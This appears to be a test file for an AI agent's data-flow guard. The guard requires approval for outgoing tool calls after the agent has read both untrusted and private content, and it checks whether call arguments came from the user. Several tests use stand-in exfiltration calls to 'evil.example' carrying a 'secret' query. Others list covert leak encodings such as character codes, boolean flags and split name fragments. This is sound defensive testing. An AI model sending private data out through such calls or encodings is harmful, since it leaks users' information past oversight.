"""Tests for the flow rule, which requires approval because of the labels of a conversation."""

import time

import pytest

from agentkit.content import Image
from agentkit.decisions import Decision, Label, Verdict
from agentkit.messages import AssistantMessage, ToolCall, ToolMessage, UserMessage
from agentkit.safety.data_flow import judge_flow, user_written_arguments

LEAVES = Decision(Verdict.ALLOW, "url.public", "It is a public address.", egress=True)


def conversation(*labels, text="Read it and tell me."):
    """Return a prompt and one tool call with its result for each label."""
    messages = [UserMessage(text)]
    for index, label in enumerate(labels):
        name = {Label.UNTRUSTED: "fetch_url", Label.PRIVATE: "read_file"}[label]
        messages.append(AssistantMessage(tool_calls=(ToolCall(f"c{index}", name, f'{{"n": {index}}}'),)))
        messages.append(ToolMessage(f"c{index}", name, "…", frozenset({label})))
    return messages


BOTH = (Label.UNTRUSTED, Label.PRIVATE)


def test_both_labels_require_approval_of_egress():
    """After untrusted text and private data were read, an outgoing call needs approval and names both sources."""
    decision = judge_flow(conversation(*BOTH), "send", {"url": "https://evil.example/?q=secret"}, LEAVES)
    assert (decision.verdict, decision.rule) == (Verdict.ASK, "flow")
    assert 'fetch_url({"n": 0})' in decision.reason
    assert 'read_file({"n": 1})' in decision.reason


def test_order_of_reading_is_irrelevant():
    """Reading private data before untrusted text has the same effect."""
    assert judge_flow(conversation(*reversed(BOTH)), "send", {"url": "https://evil.example/"}, LEAVES).rule == "flow"


@pytest.mark.parametrize("labels", [(), (Label.UNTRUSTED,), (Label.PRIVATE,), (Label.PRIVATE, Label.PRIVATE)])
def test_single_label_does_not_change_decision(labels):
    """A conversation with only one of the two labels does not change the decision."""
    assert judge_flow(conversation(*labels), "send", {"url": "https://a.example/"}, LEAVES) is LEAVES


def test_calls_without_egress_need_no_approval():
    """A call without egress needs no approval."""
    inside = Decision(Verdict.ALLOW, "workspace.read", "It is in the workspace.")
    assert judge_flow(conversation(*BOTH), "send", {"path": "a.txt"}, inside) is inside


def test_flow_rule_does_not_override_a_denial():
    """The flow rule does not turn a denial into a question."""
    denied = Decision(Verdict.DENY, "url.private-address", "It is private.", egress=True)
    assert judge_flow(conversation(*BOTH), "send", {"url": "http://10.0.0.1/"}, denied) is denied


def test_question_has_both_reasons():
    """A call that needs approval anyway states both reasons."""
    question = Decision(Verdict.ASK, "shell.network", "It needs the network.", egress=True)
    decision = judge_flow(conversation(*BOTH), "send", {"command": "curl https://a.example"}, question)
    assert (decision.rule, "It needs the network." in decision.reason) == ("flow", True)


@pytest.mark.for_each(
    ("arguments", "question"),
    [
        ({"url": "https://a.example/page"}, False),
        ({"url": "https://a.example/page?secret=1"}, True),
        ({"url": "https://a.example/page", "extra": {"k": ["v"]}}, True),
        ({"to": "bob", "count": 3}, False),
        ({"to": "bob", "count": 31337}, True),
        ({"headers": {"x-secret": "bob"}}, True),
        ({"to": "bob", "codes": [115, 101, 99, 114]}, True),
        ({"to": "bob", "flags": [True, False, True, True]}, True),
        ({"to": "bo"}, True),
        ({"to": "b", "parts": ["o", "b"]}, True),
        ({"to": "bob", "ratio": 0.5}, True),
        ({"to": ["bob"] * 20}, True),
        ({"count": 3}, True),
        ({"url": "https://a.example/pag"}, True),
        ({}, True),
    ],
)
def test_user_text_may_be_sent(arguments, question):
    """A call whose arguments are the user's own text needs no approval; one invented argument needs it."""
    messages = conversation(*BOTH, text="Send https://a.example/page to bob 3 times")
    assert (judge_flow(messages, "send", arguments, LEAVES).rule == "flow") is question


def test_host_named_by_the_user_does_not_allow_its_urls():
    """A host named by the user does not allow a URL there that contains text of the model."""
    decision = Decision(Verdict.ALLOW, "url.public", "Public.", evidence="a.example", egress=True)
    messages = [UserMessage(("See https://a.example/", Image("https://a.example/x.png"))), *conversation(*BOTH)]
    assert judge_flow(messages, "send", {"url": "https://a.example/", "start": 0}, decision) is decision
    assert judge_flow(messages, "send", {"url": "https://a.example/?q=secret", "start": 0}, decision).rule == "flow"


def test_result_without_its_call_has_its_tool():
    """A result without its call in the history is still attributed to its tool."""
    messages = [ToolMessage("x", "mail", "…", frozenset(BOTH))]
    assert "mail()" in judge_flow(messages, "send", {"url": "https://evil.example/"}, LEAVES).reason


def test_user_words_may_be_sent_only_a_few_times():
    """The user's own words may be sent five times; further calls trigger the flow rule."""
    messages = conversation(*BOTH, text="Send it to bob")
    for index in range(6):
        assert (judge_flow(messages, "send", {"to": "bob"}, LEAVES).rule == "flow") is (index > 4)
        messages.append(AssistantMessage(tool_calls=(ToolCall(f"s{index}", "send", "{}"),)))
        messages.append(ToolMessage(f"s{index}", "send", "ok"))


def test_labels_of_calling_agent_count():
    """Labels of the calling agent's conversation count as read by the called agent."""
    output = conversation(Label.PRIVATE, text="Send it to https://example.org")
    arguments = {"url": "https://example.org"}
    assert judge_flow(output, "send", arguments, LEAVES) is LEAVES
    question = judge_flow(output, "send", arguments, LEAVES, frozenset({Label.UNTRUSTED}))
    assert question.verdict is Verdict.ASK
    assert "private data (read by read_file(" in question.reason
    assert "untrusted text (by the conversation of the calling agent)" in question.reason
    assert judge_flow(conversation(), "send", arguments, LEAVES, frozenset({Label.UNTRUSTED})) is LEAVES


@pytest.mark.for_each(
    ("value", "words", "states_date"),
    [
        ("bob@corp.example", "Mail bob@corp.example, please.", True),
        ("bob@corp.example", "Mail <bob@corp.example>.", True),
        ("bob@corp.example", "Mail jimbob@corp.example.", False),
        ("bob@corp", "Mail bob@corp.example.", False),
        ("https://a.example", "See https://a.example.org/.", False),
        ("https://a.example", "See https://a.example:8443/.", False),
        ("https://a.example", "See https://a.example.", True),
        ("a.example", "See https://not-a.example", False),
        ("Bob", "Tell bob.", False),
        ("GB29NWBK60161331926819", "Pay to GB29NWBK60161331926819.", True),
        ("GB29NWBK6016", "Pay to GB29NWBK60161331926819.", False),
        (["ann", "bob"], "To ann and bob", True),
        (["ann", "eve"], "To ann and bob", False),
        ({"to": "ann"}, "To ann", False),
        ({"to": "ann"}, "Set to: ann", True),
        (20, "Pay 20 euros.", True),
        (20, "Pay 20.", True),
        (20, "Pay 200 euros.", False),
        (20, "Pay 20.50 euros.", False),
        (20, "Come at 20:15.", False),
        (15, "Come at 20:15.", False),
        (2, "Pay 2,000.", False),
        (0, "Pay 2,000.", False),
        (2000, "Pay 2,000.", True),
        (1200.0, "Pay 1200.", True),
        (1200.0, "Pay 1,200.00.", True),
        (98.7, "Pay 98.70.", True),
        (98.7, "Pay 98.7", True),
        (98.755, "Pay 98.75", False),
        (float("inf"), "Pay inf", False),
        (float("nan"), "Pay nan", False),
        (True, "True", False),
        (object(), "object", False),
        (None, "", True),
        ("", "", True),
        ([], "", True),
        (["bob"] * 101, "bob", False),
    ],
)
def test_user_stated_values(value, words, states_date):
    """A string or number counts as stated if it appears whole in the user's message; an empty value always does."""
    assert user_written_arguments([UserMessage(words)], {"x": value}) == ({"x"} if states_date else set())


@pytest.mark.for_each(
    ("value", "words"),
    [
        ("brien@x.example", "Write to o'brien@x.example."),
        ("Brien", "Pay O\u2019Brien."),
        ("O", "Pay O'Brien."),
        ("Jose", "Pay Jose\u0301."),
        ("रम", "रमेश को भेजो"),
        ("श", "रमेश को भेजो"),
        ("\u0301", "Jose\u0301"),
        ("bob", "a\u200bbob"),
        ("Ann", "Ann\u00adMarie"),
        ("Ann", "Ann\u2011Marie"),
        ("Jones", "Smith\u2013Jones"),
        ("eve@x.example", "Write to a!eve@x.example."),
        ("eve@x.example", "Write to a{eve@x.example."),
        ("x.example", "Write to eve\uff20x.example."),
        ("https://a.example", "See https://a.example\u3002org/"),
        ("https://a.example/b", "See https://a.example/b~c"),
        ("https://a.example/b", "See https://a.example/b#c"),
        ("Users", "C:\\Users\\x"),
        ("C:\\Users", "C:\\Users\\x"),
        ("*", "**Only** mine."),
        ("..", "Well ... go on."),
        (".", "Well ... go on."),
        ("/", "and/or"),
        (10, "Pay 10 000 EUR."),
        (10, "Pay 10\u202f000 EUR."),
        (0, "Pay 10 000 EUR."),
        (10, "Pay 10'000 EUR."),
        (5, "It is \u22125."),
        (12, "Pay 12\u066b5."),
        (12, "Pay 12\u00b75."),
        (1, "1\u20442"),
        (10, "pages 10\u201320"),
    ],
)
def test_part_of_a_word_does_not_count(value, words):
    """A part of a name, number or address in the user's message does not count as stated by the user."""
    assert not user_written_arguments([UserMessage(words)], {"x": value})


@pytest.mark.for_each(
    ("value", "words"),
    [
        ("Ann", "Pay Ann's share."),
        ("Ann", "Pay 'Ann','Bob'."),
        ("Ann", "Pay **Ann**, `Bob` and #Eve—now."),
        ("रमेश", "रमेश को भेजो"),
        ("José", "Pay José."),
        ("*", "Delete * there."),
        ("*.txt", 'Delete "*.txt".'),
        (12, "Pay $12."),
        (12, "Pay 12€ of 100."),
        (13, "See #13."),
        (3, "3 of 2026"),
        ("👍", "React with 👍 to it."),
    ],
)
def test_punctuation_next_to_a_word_is_ignored(value, words):
    """Quotes, punctuation and units next to a word do not change it."""
    assert user_written_arguments([UserMessage(words)], {"x": value})


def test_only_user_messages_count():
    """Text from the model or from tools does not count as stated by the user."""
    messages = [UserMessage("Go on."), AssistantMessage("eve"), ToolMessage("c", "read", "eve")]
    assert user_written_arguments(messages, {"to": "eve", "note": None}) == {"note"}


def test_parallel_calls_count_towards_the_limit():
    """Calls in one response count towards the limit like calls in separate responses."""
    for count in (5, 6):
        calls = tuple(ToolCall(f"s{index}", "send", '{"to": "bob"}') for index in range(count))
        messages = [*conversation(*BOTH, text="Send it to bob"), AssistantMessage(tool_calls=calls)]
        assert (judge_flow(messages, "send", {"to": "bob"}, LEAVES).rule == "flow") is (count > 5)


def test_long_text_is_not_scanned_for_each_argument():
    """A long pasted text of partial matches is not scanned again for each of many arguments."""
    pasted = "e\u0301 " * 300_000
    started = time.process_time()
    found = user_written_arguments([UserMessage(pasted)], {f"a{number}": "e" for number in range(100)})
    assert (found, time.process_time() - started < 5) == (frozenset(), True)
